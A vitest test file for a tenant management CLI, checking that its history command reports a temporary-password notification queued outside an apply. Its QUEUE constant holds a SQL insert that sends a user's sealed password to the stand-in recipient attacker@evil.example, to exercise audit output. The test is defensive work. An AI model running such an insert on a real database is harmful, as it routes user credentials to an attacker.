// A credential notification queued outside an apply (migration 0025 checks
// the apply a notification names only under an apply's mark): the writer
// role can queue one for any recipients, naming any earlier apply, and
// deliver sends it. It is kept in other_writes (0016), and `history` must say
// so: who it goes to, which apply it claims, that deliver sends it. It used
// to read "+ queued temporary password: erased, not delivered" for the insert,
// with no recipient, as for a purge's erasure.
import { describe, expect, it } from 'vitest';
import { runCli } from '../support/cli.js';
import { contosoPostgres } from '../support/contoso-database.js';
import { asLogin, readerAndWriter } from '../support/login-roles.js';
import { describePostgres } from '../support/postgres.js';

const ARMORED = '-----BEGIN AGE ENCRYPTED FILE-----\nnot opened by this test\n-----END AGE ENCRYPTED FILE-----';
const QUEUE = `INSERT INTO tenantctl.credential_notifications (apply_id, user_id, user_principal_name, recipients, sealed_password, reason, force_change)
  SELECT (SELECT min(id) FROM tenantctl.applies), id, user_principal_name, ARRAY['attacker@evil.example'], '${ARMORED}', 'created', true
    FROM tenantctl.users WHERE user_principal_name = 'megan.bowen@contoso.com'`;

describePostgres('a credential queued outside an apply, in history', { timeout: 120_000 }, () => {
  describe('on PostgreSQL, by the writer role, read by the reader role', () => {
    it('names its recipients and the apply it claims, and that deliver sends it; its erasure says so', async () => {
      const owner = await contosoPostgres('applied', 'outbox_outside_apply');
      const { reader, writer, writerRole } = await readerAndWriter(owner);
      // Accepted by the database: no apply recorded in this transaction, and it names the first one.
      await asLogin(writer, QUEUE);
      const history = (args: string[] = []) => runCli(['history', '--user', 'megan.bowen@contoso.com', ...args], { env: { TENANTCTL_DATABASE_URL: reader } });

      const queued = await history();
      expect(queued.code, queued.stderr).toBe(0);
      const entry = queued.stdout.split('\n\n').find((block) => block.startsWith('outside tenantctl'));
      expect(entry).toMatch(new RegExp(`^outside tenantctl \\S+ \\S+ UTC by database role ${writerRole} — changed 1 user\n`));
      expect(entry).toContain('  ~ megan.bowen@contoso.com (updated)\n      + queued temporary password for attacker@evil.example (naming apply #1): deliver sends it');
      expect(entry).not.toContain('erased');

      await asLogin(owner, `DELETE FROM tenantctl.credential_notifications WHERE 'attacker@evil.example' = ANY (recipients)`);
      const erased = await history(['--limit', '1']);
      expect(erased.code, erased.stderr).toBe(0);
      expect(erased.stdout).toContain('      - queued temporary password for attacker@evil.example (naming apply #1): erased, not delivered');
    });
  });
});
